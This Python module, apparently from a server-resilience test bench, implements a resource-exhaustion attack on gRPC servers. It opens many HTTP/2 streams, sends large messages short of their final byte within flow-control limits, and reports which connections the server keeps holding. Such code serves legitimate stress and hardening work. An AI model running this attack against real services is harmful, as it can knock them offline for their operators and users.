"""An attack by gRPC messages without their last byte, for which the server waits."""

import asyncio
import contextlib
from collections import Counter

from bench.hostile import frames, payloads
from bench.hostile.attacks.sockets import CLOSED
from bench.hostile.attacks.target import Target, host_and_port

_CONNECTIONS, _CALLS_EACH = 100, 10
_MESSAGE_BYTES = 4 << 20
"""Announced length of a message, in bytes."""
_FRAME_BYTES = 1 << 14
"""Length of a frame in bytes, the largest that a server accepts by default."""


async def send_half_messages(target: Target, length: int = _MESSAGE_BYTES) -> Counter[str]:
    """Sends a thousand messages of `length` bytes without their last byte."""
    every = (_Connection(target, length) for _ in range(_CONNECTIONS))
    return Counter(await asyncio.gather(*(connection.run() for connection in every)))


class _Connection:
    """One connection with several calls, which sends as much as HTTP/2 flow control allows."""

    def __init__(self, target: Target, length: int) -> None:
        self._target, self._length = target, length
        self._initial_window = self._connection_window = frames.INITIAL_WINDOW
        self._stream_windows = dict.fromkeys(range(1, 2 * _CALLS_EACH, 2), frames.INITIAL_WINDOW)
        self._unsent_bytes = dict.fromkeys(self._stream_windows, length - 1)
        self._received = asyncio.Event()

    async def run(self) -> str:
        """Sends until the time is over, or the server closes the connection."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(self._target.seconds):
                await self._send_and_receive()
                return CLOSED
        return "held"

    async def _send_and_receive(self) -> None:
        """Sends messages and handles frames until the server closes the connection."""
        try:
            reader, writer = await asyncio.open_connection(*host_and_port(self._target.front))
            with contextlib.closing(writer):
                writer.write(frames.PREFACE + frames.frame(frames.SETTINGS))
                async with asyncio.TaskGroup() as group:
                    group.create_task(self._receive(reader, writer))
                    group.create_task(self._send(writer))
        except* (OSError, asyncio.IncompleteReadError):
            pass  # the server closed the connection

    async def _send(self, writer: asyncio.StreamWriter) -> None:
        for stream in self._stream_windows:
            prefix = frames.message_prefix(self._length)
            self._use_window(stream, len(prefix))
            writer.write(frames.call_headers(stream, payloads.ANSWER))
            writer.write(frames.frame(frames.DATA, stream, prefix))
        while self._unsent_bytes:
            self._received.clear()
            if not await self._send_frames(writer):
                await self._received.wait()

    async def _send_frames(self, writer: asyncio.StreamWriter) -> int:
        """Sends a frame of every call with room in its window; returns the number of frames."""
        sent = 0
        for stream, unsent in list(self._unsent_bytes.items()):
            size = min(_FRAME_BYTES, unsent, self._connection_window, self._stream_windows[stream])
            if size > 0:
                self._use_window(stream, size)
                self._unsent_bytes[stream] -= size
                writer.write(frames.frame(frames.DATA, stream, bytes(size)))
                sent += 1
        await writer.drain()
        return sent

    async def _receive(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            head = frames.parse_header(await reader.readexactly(frames.HEADER_BYTES))
            payload = await reader.readexactly(head.length)
            if head.kind == frames.GOAWAY:
                raise ConnectionResetError
            if head.kind in (frames.SETTINGS, frames.PING) and not head.flags & frames.ACK:
                echo = payload if head.kind == frames.PING else b""
                writer.write(frames.frame(head.kind, 0, echo, frames.ACK))
            self._handle_frame(head, payload)
            self._received.set()

    def _handle_frame(self, head: frames.FrameHeader, payload: bytes) -> None:
        if head.kind == frames.RST_STREAM:
            self._unsent_bytes.pop(head.stream, None)
        elif head.kind == frames.WINDOW_UPDATE:
            increment = int.from_bytes(payload, "big")
            if head.stream:
                self._stream_windows[head.stream] += increment
            else:
                self._connection_window += increment
        elif head.kind == frames.SETTINGS:
            for size in frames.window_sizes(payload):
                for stream in self._stream_windows:
                    self._stream_windows[stream] += size - self._initial_window
                self._initial_window = size

    def _use_window(self, stream: int, size: int) -> None:
        self._connection_window -= size
        self._stream_windows[stream] -= size
